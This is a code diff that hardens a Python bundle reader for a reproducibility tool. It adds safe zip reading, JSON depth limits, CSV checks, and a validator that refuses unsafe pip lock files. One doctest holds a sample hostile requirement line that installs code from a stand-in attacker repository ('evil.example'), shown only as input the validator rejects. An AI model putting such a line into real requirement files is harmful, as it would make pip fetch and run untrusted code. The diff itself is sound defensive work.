@@ -74,12 +74,27 @@ class Bundle:
     files: dict[str, bytes] = field(repr=False)
 
     def tables(self) -> dict[str, pd.DataFrame]:
-        """Every results table by name (``results/<name>.csv``)."""
-        return {Path(n).stem: pd.read_csv(io.BytesIO(b)) for n, b in sorted(self.files.items())
-                if n.startswith("results/") and n.endswith(".csv")}
+        """Every results table by name (``results/<name>.csv``).
+
+        Raises :class:`BundleError` naming the member when one is not a readable CSV table, or
+        when ``claims.csv`` lacks its ``claim_id`` or ``verdict`` column.
+        """
+        out = {}
+        for n, b in sorted(self.files.items()):
+            if n.startswith("results/") and n.endswith(".csv"):
+                try:
+                    out[Path(n).stem] = pd.read_csv(io.BytesIO(b), encoding="utf-8")
+                except (ValueError, UnicodeDecodeError, pd.errors.ParserError, pd.errors.EmptyDataError,
+                        RecursionError, OverflowError) as exc:
+                    raise BundleError(f"bundle {self.path}: {n} is not a readable CSV table "
+                                      f"({type(exc).__name__}: {str(exc)[:120]})") from None
+        claims = out.get("claims")
+        if claims is not None and not {"claim_id", "verdict"} <= set(claims.columns):
+            raise BundleError(f"bundle {self.path}: results/claims.csv has no claim_id and verdict columns")
+        return out
 
     def values(self) -> dict:
-        return json.loads(self.files["values.json"])
+        return _json_member(self.path, self.files, "values.json")
 
     def lock(self) -> dict[str, str]:
         """Distributions of the bundled environment, ``{name: version}`` (see :func:`parse_lock`)."""
@@ -358,13 +373,16 @@ def read_bundle(path: str | Path) -> Bundle:
     ...
     discbias.reproduce.bundle.BundleError: bundle no-such-bundle.zip does not exist
     """
+    from ..safeio import UnsafeInputError, read_zip
+
     path = Path(path)
     if not path.exists():
         raise BundleError(f"bundle {path} does not exist")
-    try:
-        with zipfile.ZipFile(path) as zf:
-            files = {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}
-    except (zipfile.BadZipFile, OSError) as exc:
+    try:  # a FIFO or device is refused before it is opened; members are read within size limits
+        files = read_zip(path, what="bundle")
+    except UnsafeInputError as exc:
+        raise BundleError(str(exc)) from None
+    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, EOFError, ValueError, NotImplementedError) as exc:
         raise BundleError(f"bundle {path} is not a readable zip file ({exc}); download it again") from None
     if MANIFEST not in files:
         raise BundleError(f"bundle {path} has no {MANIFEST}: not a discbias bundle, or damaged")
@@ -387,10 +405,77 @@ def read_bundle(path: str | Path) -> Bundle:
     for rel in (META, "values.json", LOCK, "results/claims.csv"):
         if rel not in files:
             raise BundleError(f"bundle {path} has no {rel}: not a complete discbias bundle")
-    try:
-        meta = json.loads(files[META])
-    except json.JSONDecodeError as exc:
-        raise BundleError(f"bundle {path}: {META} is not valid JSON ({exc})") from None
+    meta = _json_member(path, files, META)
+    if not isinstance(meta, dict):
+        raise BundleError(f"bundle {path}: {META} is not a JSON object")
     if meta.get("format") != FORMAT:
-        raise BundleError(f"bundle {path}: {META} says format {meta.get('format')!r}; this discbias reads {FORMAT}")
-    return Bundle(path=path, meta=meta, files=files)
+        raise BundleError(f"bundle {path}: {META} says format {str(meta.get('format'))[:40]!r}; this discbias reads "
+                          f"{FORMAT}")
+    values = _json_member(path, files, "values.json")
+    if not isinstance(values, dict):
+        raise BundleError(f"bundle {path}: values.json is not a JSON object")
+    if _depth(values) > 64 or _depth(meta) > 64:  # the comparison walks them recursively
+        raise BundleError(f"bundle {path}: values.json or {META} is nested more than 64 levels deep")
+    check_lock(files[LOCK], where=f"bundle {path}: {LOCK}")
+    bundle = Bundle(path=path, meta=meta, files=files)
+    bundle.tables()  # every results table parses, and claims.csv has its columns (else a BundleError)
+    return bundle
+
+
+def _depth(x, limit: int = 65) -> int:
+    """Nesting depth of a JSON value, counted up to ``limit`` (iteratively: no recursion to exhaust)."""
+    deepest, stack = 0, [(x, 1)]
+    while stack:
+        v, d = stack.pop()
+        deepest = max(deepest, d)
+        if d >= limit:
+            return d
+        if isinstance(v, dict):
+            stack += [(c, d + 1) for c in v.values()]
+        elif isinstance(v, list):
+            stack += [(c, d + 1) for c in v]
+    return deepest
+
+
+def _json_member(path: Path, files: dict[str, bytes], rel: str):
+    try:
+        return json.loads(files[rel].decode("utf-8"))
+    except (UnicodeDecodeError, ValueError, RecursionError) as exc:
+        raise BundleError(f"bundle {path}: {rel} is not valid UTF-8 JSON ({str(exc)[:120]})") from None
+
+
+#: The only option line a lock may hold: PyTorch's own index for builds with a local label
+#: (``torch==2.13.0+cpu``), exactly as :func:`environment_lock` writes it.
+_LOCK_OPTION = re.compile(r"^--extra-index-url https://download\.pytorch\.org/whl/[a-z0-9.]+$")
+_LOCK_PIN = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9][A-Za-z0-9.+!_-]*"
+                       r"(?:\s+--hash=sha256:[0-9a-f]{64})*$")
+
+
+def check_lock(data: bytes, *, where: str = "environment lock") -> None:
+    r"""Refuse an environment lock that ``pip install -r`` could be made to do harm with.
+
+    Accepted lines: blank lines, comments, pinned ``name==version`` (optionally followed by
+    ``--hash=sha256:<hex>``), and ``--extra-index-url https://download.pytorch.org/whl/<label>``
+    (PyTorch's index, which :func:`environment_lock` writes for ``+cpu``-style builds). Anything
+    else (``--index-url`` or another host, ``-e``/VCS/URL/path requirements, ``-r``/``-c`` includes,
+    environment markers, unpinned or ranged requirements) raises :class:`BundleError` naming the line.
+
+    Examples
+    --------
+    >>> check_lock(b"# env\nnumpy==2.1.0\n--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0+cpu\n")
+    >>> check_lock(b"numpy==2.1.0\n-e git+https://evil.example/x.git#egg=x\n")
+    Traceback (most recent call last):
+    ...
+    discbias.reproduce.bundle.BundleError: environment lock line 2 is not a pinned 'name==version' ...
+    """
+    try:
+        text = data.decode("utf-8")
+    except UnicodeDecodeError:
+        raise BundleError(f"{where} is not UTF-8 text") from None
+    for n, line in enumerate(text.splitlines(), 1):
+        s = line.strip()
+        if not s or s.startswith("#") or _LOCK_PIN.match(s) or _LOCK_OPTION.match(s):
+            continue
+        raise BundleError(f"{where} line {n} is not a pinned 'name==version' (or PyTorch's --extra-index-url): "
+                          f"{s[:80]!r}; a lock with index URLs, VCS, editable, URL or path lines is refused, so do "
+                          f"not `pip install -r` it")
